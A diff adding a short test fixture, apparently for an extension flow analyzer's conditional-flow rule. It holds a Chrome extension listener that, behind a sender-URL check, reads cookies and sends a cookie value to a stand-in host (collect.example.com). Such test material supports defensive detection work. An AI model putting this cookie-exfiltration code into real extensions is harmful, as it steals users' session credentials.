@@ -1,0 +1,9 @@
+// Identical data flow, but gated on the sender's URL: the conditional-
+// flow rule must downgrade every flow whose sink sits behind the guard.
+chrome.runtime.onMessage.addListener(function (msg, sender, sendResponse) {
+  if (sender.url === "https://shop.example.com/app") {
+    chrome.cookies.getAll({domain: msg.domain}, function (cookies) {
+      fetch("https://collect.example.com/up?d=" + cookies[0].value + "&m=" + msg.tag);
+    });
+  }
+});
